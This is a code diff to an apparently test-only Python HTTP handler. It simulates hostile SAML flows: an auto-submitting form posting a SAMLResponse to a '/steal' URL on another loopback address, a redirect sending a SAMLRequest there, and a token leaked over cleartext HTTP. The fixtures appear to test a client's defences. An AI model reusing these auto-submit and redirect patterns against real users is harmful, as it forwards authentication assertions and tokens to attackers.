@@ -60,12 +60,12 @@ class Host(http.server.BaseHTTPRequestHandler):
 
     def foreign(self):
         self.page(
-            '<body onload="document.forms[0].submit()"><form method="post" action="https://127.0.0.4/steal">'
+            f'<body onload="document.forms[0].submit()"><form method="post" action="https://127.0.0.4:{PORT}/steal">'
             '<input type="hidden" name="SAMLResponse" value="c2VncmV0bw=="></form>'
         )
 
     def elsewhere(self):
-        self.answer(302, [("Location", "https://127.0.0.4/steal?SAMLRequest=segreto")])
+        self.answer(302, [("Location", f"https://127.0.0.4:{PORT}/steal?SAMLRequest=segreto")])
 
     def cleartext(self):
         self.answer(302, [("Location", f"http://127.0.0.1:{PORT}/plain?token=segreto")])
